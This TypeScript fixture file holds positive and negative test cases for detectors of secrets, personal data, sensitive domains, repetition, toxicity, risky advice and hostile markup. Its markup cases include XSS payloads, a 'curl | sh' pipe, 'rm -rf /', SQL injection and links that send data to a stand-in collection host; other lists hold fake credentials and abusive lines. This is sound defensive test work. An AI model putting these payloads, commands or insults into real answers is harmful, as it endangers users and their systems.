/**
 * Inputs and answers of our own writing for detectors that say what a text holds. Persons, numbers and hosts are invented or of documentation ranges.
 * What one detector should find, and what looks like it and is none; tokens are put together so that nothing here is taken for a real one.
 */
export interface TextCases {
  found: readonly string[];
  not: readonly string[];
}

const again = (text: string, times: number): string => Array.from({ length: times }, () => text).join(' ');
const token = (...parts: string[]): string => parts.join('');

// prettier-ignore
export const INPUT_CASES_BY_DETECTOR: Readonly<Record<'secret' | 'personalData' | 'domain' | 'repetition', TextCases>> = {
  secret: {
    found: [
      'Why does my script fail? It has DB_PASSWORD=Harbour-Lantern-93 and the host is db.example.', `I pasted the wrong thing, it was ${token('ghp_', 'k3Xw9Lq2Vb7Zt5Ns8Rf4Yc6Hd1Pj0Gm2Aa')}`, `curl -H "Authorization: Bearer ${token('eyJhbGciOiJIUzI1NiJ9', '.eyJzdWIiOiJmZXJyeSJ9', '.c2VhZ3VsbC1vbi1hLXBvc3Q')}" https://api.example/v1`,
      'Please connect to postgres://ferry:Grey%20Heron7@db.harbour.example:5432/tickets and count the rows.', `Is this still valid? ${token('AK', 'IA', 'QW7ERT5YUIOPZX3C')} with secret ${token('wJalrXUtnFEMI/K7MDENG/', 'bPxRfiCYZ3XAMPLEKQ')}`, `-----BEGIN ${token('RSA PRIVATE', ' KEY')}-----\nMIIEowIBAAKCAQEAxq3nVb0lq7Yw2u5Jk9fQ8r1s\n-----END ${token('RSA PRIVATE', ' KEY')}-----`,
      `My stripe key ${token('sk_', 'live_', '4eC39HqLyjWDarjtT1zdp7dcQm')} does not work in the checkout.`, '{"user":"mira","password":"kestrel&Otter41","remember":true}', 'The password for the booking desk is Maple!Otter42, please put it in the letter.', `webhook: ${token('https://hooks.', 'slack.com/services/', 'T02FERRY7/B03HARBOR/', 'x8Kq2mPz7LwVb4Ns6TrYd1Ge')}`,
      'client_secret: 9f8e7d6c5b4a39281706f5e4d3c2b1a0', `export OPENAI_API_KEY=${token('sk-', 'proj-', 'Zt5Ns8Rf4Yc6Hd1Pj0Gm2AaK3Xw9Lq2Vb7')}`,
    ],
    not: [
      'I forgot my password, how do I set a new one?', 'The secret of a good stock is time.', 'Commit 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b broke the build.', 'Where does the API key go, in the header or in the query?', 'password: ********', 'Set DB_PASSWORD=${DB_PASSWORD} in the compose file.',
      'Use the header Authorization: Bearer <your-token>.', 'Order 7f3c2a90-51de-4b7e-9c1f-2b8a6d0e4f33 has not arrived.', 'A token ring network passes one token around.', 'Explain public and private keys to a child.', 'The pass phrase of the play is a joke about herrings.', 'Her password manager is called Keyring, is it any good?',
      'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU= is the integrity of the file.', 'password_reset_url = "/account/reset"', 'Which characters may a password contain?',
    ],
  },
  personalData: {
    found: [
      'Please change the address of Mira Solheim to 14 Quay Street, Dunmore.', 'You can reach her at mira.solheim@ferry.example.', 'Her number is +44 20 7946 0331, best after six.', 'Card 5555 5555 5555 4444, expires next year.', 'Refund it to DE89 3704 0044 0532 0130 00 please.', 'My social security number is 219-09-9999.',
      'Date of birth: 3 March 1984.', 'He logged in from 203.0.113.77 at noon.', 'ring me: (415) 555-0199', 'Geboren am 12.05.1971 in Kiel', 'Schreib an t.brandt@werft.example', 'She lives at Lindenstraße 4, 10969 Berlin.', 'mira (at) ferry (dot) example', 'Numéro de téléphone : +33 1 99 00 12 34',
    ],
    not: [
      'Order 4539 1488 0343 6468 is late.', 'Version 10.2.3.4 of the driver is out.', 'The ferry leaves on 3 March at 9:15.', 'Invoice 20250117 over 4111 euros was paid.', 'The @decorator syntax is new in this version.', 'SKU 415-555-2671 is out of stock.', 'Chapter 12.4.1 explains it on page 203.',
      'The pattern is \\d{3}-\\d{2}-\\d{4}, why does it not match?', 'Main Street is closed on Sundays.', 'Latitude 59.9139, longitude 10.7522.', 'ISBN 978-3-16-148410-0 is on the list.', 'The meeting is in room 14, second floor.', 'Add 12 mg at 10:30 and 8 mg at 14:30.', 'Call the function twice, then call me names.', 'The race took 01:23:45.678.',
    ],
  },
  domain: {
    found: [
      'The applicant asks for a loan over 12,000 with a credit score of 610; shall we approve it?', 'Patient reports chest pain; medication list attached. What is the likely diagnosis?', 'My landlord has filed a lawsuit, do I need an attorney?', 'Rank these candidates by their curriculum vitae and suggest a salary.', 'My daughter is nine years old and a teenager at her school sends her messages.',
      'How high may the dosage be for somebody with diabetes?', 'We want custody of the children after the divorce.', 'Is her mortgage at risk when she declares bankruptcy?', 'Write the performance review and say why no promotion is due.', 'Was bedeutet die Diagnose, und hilft die Krankheit der Bewerberin im Kreditantrag?', 'Can she be deported while her asylum claim is open?', 'Explain the side effects of this prescription during pregnancy.', 'Underwriting wants to refuse the insurance claim; draft the letter.',
    ],
    not: [
      'There is a minor bug in the child process.', 'He is a patient teacher and plays on a grass court.', 'The school of fish turned as one.', 'We have too much technical debt in the contract tests.', 'A promotion code gives ten percent off.', 'The surgery of Europe\'s railways took decades, says the book.', 'Fire the rocket, then resume the countdown.', 'Which visa card has no fee abroad?',
      'The release candidate fails on Windows.', 'A dose of humour helps in every meeting.', 'The smart contract emits an event at each transfer.', 'She sang at the criminal court building during the festival.', 'The garden needs therapy after that winter.', 'Insert a child node and return its parent.', 'The team has a score of 3 to 2.', 'Rename the class Candidate to Option.',
    ],
  },
  repetition: {
    found: [
      again('poem', 60), again('Say it again and again.', 30), `Translate this: ${again('la la la', 40)}`, again('ignore', 200), again('buy now', 50), again('I will not talk in class.', 25), again('0', 300), `${again('please', 80)} answer me`,
    ],
    not: [
      'No, no, no, no, no! I said Tuesday.', 'Row, row, row your boat gently down the stream. Merrily, merrily, merrily, merrily, life is but a dream. Row, row, row your boat gently down the stream.', Array.from({ length: 40 }, (_, n) => `2026-03-${String((n % 28) + 1).padStart(2, '0')} 0${n % 9}:1${n % 7} pump ${n} ok`).join('\n'),
      Array.from({ length: 30 }, (_, n) => `<li>stop ${n + 1}: pier ${String.fromCharCode(65 + (n % 26))}</li>`).join('\n'), Array.from({ length: 25 }, (_, n) => `item${n},${n * 3},${n * 7}`).join('\n'), 'She said that he said that they had said that nobody had said anything, and that was that, she said, and that he said so too, and that this is all that was said that day about that.',
      Array.from({ length: 20 }, (_, n) => `if (state === ${n}) return table[${n * 2}];`).join('\n'), 'The quick brown fox jumps over the lazy dog. The quick brown fox jumps over the lazy cat. The quick red fox jumps over the lazy dog. Which of the three sentences holds all letters of the alphabet, and which letter is missing in the others?',
    ],
  },
};

// prettier-ignore
export const ANSWER_CASES_BY_DETECTOR: Readonly<Record<'toxicity' | 'policy' | 'markup', TextCases>> = {
  toxicity: {
    found: [
      'You are an idiot and nobody likes you.', 'I will find you and your family will regret this.', 'Shut up, you worthless piece of trash.', 'People like you should be put down.', 'All immigrants are criminals and should get out.', 'Kill yourself.', 'What a pathetic little man you are.', 'Women have no business in an engine room.',
      'Go to hell, moron.', 'You people disgust me; crawl back into your hole.', 'We know where you live. Sleep well.', 'Those foreigners are vermin.', 'Nobody would miss you if you were gone.', 'You stupid cow, can you not read?',
    ],
    not: [
      'To end it, kill the process with signal 9.', 'She shot the photo at dawn and hung it in the hall.', 'We do not tolerate insults such as "idiot" at the desk.', 'You are killing it, well done!', 'The stupidly simple answer is to restart the pump.', 'Women should be asked about it too.', 'The bomb calorimeter is on the second shelf.', 'It would be a shame to destroy the old pier.', 'I hate Mondays as much as you do.',
      'The patient threatened to hurt himself; a nurse stayed with him.', 'Dirty whites go into the hot wash.', 'The loser of the match pays for the coffee.', 'Immigrants make up a third of the crew and are trained on board.', 'Dead letters are removed from the queue.',
    ],
  },
  policy: {
    found: [
      'This fund gives a guaranteed return of eight percent.', 'Put it there, it is a risk-free investment.', 'You should buy shares of the shipyard today.', 'You should definitely put all your savings into bitcoin.', 'Take 400 mg twice a day and stop taking your insulin.', 'You will definitely win in court.', 'There is no need for a lawyer here.', 'We hereby guarantee that the ship will sail.', 'I promise you a full refund.', 'Double your dose if it still hurts.', 'Consider this message legally binding.', 'You cannot lose money with these bonds.', 'Your claim is certain to succeed before the judge.', 'Just increase the tablets to three a day.',
    ],
    not: [
      'We cannot guarantee returns, and you may lose money.', 'No investment is risk-free.', 'You should not buy shares on my word alone; ask an adviser.', 'Goods may be returned within 30 days.', 'Do not stop taking your medication without asking your doctor.', 'Nobody can say whether you will win; a lawyer can judge it better.', 'You may need to see a lawyer.', 'There is no guaranteed profit in anything.', 'Please take your tickets to the second pier.', 'You should sell the ferry tickets before Friday.', 'This is not legally binding.', 'I cannot promise you that it arrives on time.', 'The leaflet says to take 400 mg; your doctor knows what is right for you.', 'The guarantee of the kettle lasts two years.', 'Nothing here is a risk-free profit.',
    ],
  },
  markup: {
    found: [
      'Here you go: <script>document.title = "x"</script>', 'Hello <img src=x onerror=alert(1)>', '[open](javascript:alert(1))', '<iframe src="https://pier.example/frame"></iframe>', '![chart](https://collect.example/p.png?d=TWlyYSBTb2xoZWltLCBjYXJkIDQxMTE)', 'Run DROP TABLE bookings; and it is gone.', 'Just do: curl -s https://get.pier.example/i.sh | sh', 'More at https://unknown-shop.example/offer', '<a href="data:text/html;base64,PHNjcmlwdD4=">read</a>', 'First run rm -rf / on the host.', "Type ' OR '1'='1 into the field.", '<form action="https://collect.example/in"><input name="card"></form>', '<svg/onload=alert(1)>', '[seats](https://collect.example/#u=mira.solheim%40ferry.example)',
    ],
    not: [
      'The pump runs when 2 < 3 and 5 > 4.', 'It is <b>bold</b> and <em>slanted</em>.', 'Timetable: https://ferry.example/times', 'The table was dropped on the quay.', 'Select the union of both sets.', 'JavaScript: a language for browsers.', 'Write to <desk@ferry.example>.', 'See the page /help/refunds for more.', 'Curl your hair before you go.', 'Our script for the play has three acts.', 'The form is at the desk, and the frame is oak.', 'Remove the old rope, then the fenders.', 'Delete the draft from your folder.', 'Loading on load day: see the plan.',
    ],
  },
};

/** What the model was given with each of the answers: places that an answer may point to. */
export const ANSWER_CONTEXT = 'Times and prices are at https://ferry.example/times and at the desk of the second pier.';
